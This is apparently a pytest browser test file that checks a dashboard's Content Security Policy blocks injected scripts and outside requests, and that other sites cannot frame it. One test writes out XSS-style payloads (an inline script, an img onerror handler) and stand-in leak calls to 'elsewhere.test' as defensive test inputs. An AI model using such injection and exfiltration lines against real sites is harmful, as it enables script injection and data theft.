"""The browser is told to run nothing but our own scripts and to frame us nowhere; that every page works under that is in ``test_every_page.py``."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests.browser.conftest import Dashboard, Watched, settled
from tests.browser.scenario import a_rich_case
from tests.browser.test_every_page import LISTEN

pytestmark = [pytest.mark.browser, pytest.mark.slow]



@pytest.fixture(scope="module")
def dashboard(start_dashboard: Callable[..., Dashboard]) -> Dashboard:
    """One judged trace."""
    return start_dashboard(a_rich_case())


@pytest.fixture
def framing_site(dashboard: Dashboard) -> Iterator[str]:
    """Another origin whose page shows ours in a frame."""

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f"<!doctype html><iframe id=f src='{dashboard.url}/' width=800 height=600></iframe>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """Quiet."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


def test_the_policy_is_in_force(dashboard: Dashboard, watched: Watched) -> None:
    """A script written into the page does not run, no picture comes from elsewhere, and nothing can be sent elsewhere."""
    page = watched.page
    page.add_init_script(LISTEN)
    page.goto(f"{dashboard.url}/overview")
    settled(page)
    page.evaluate("""async () => {
      const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.body.append(script);
      const handler = document.createElement('div'); handler.innerHTML = '<img src=x onerror="window.ran = 2">'; document.body.append(handler);
      const picture = new Image(); picture.src = 'http://elsewhere.test/leak.png?secret'; document.body.append(picture);
      await fetch('http://elsewhere.test/leak').catch(() => 0);
    }""")
    page.wait_for_function("window.refused.length >= 4")

    assert page.evaluate("window.ran") is None
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= {line.split()[0] for line in page.evaluate("window.refused")}


def test_no_other_site_frames_the_dashboard(framing_site: str, dashboard: Dashboard, watched: Watched) -> None:
    """Clicks cannot be stolen through an invisible frame."""
    with watched.page.expect_console_message(lambda m: any(part in m.text.lower() for part in ("frame-ancestors", "x-frame-options", "refused"))):
        watched.page.goto(framing_site)
    frame = watched.page.query_selector("#f").content_frame()
    frame.wait_for_load_state()

    assert frame.query_selector("[data-testid=stApp]") is None
    assert dashboard.url not in frame.url
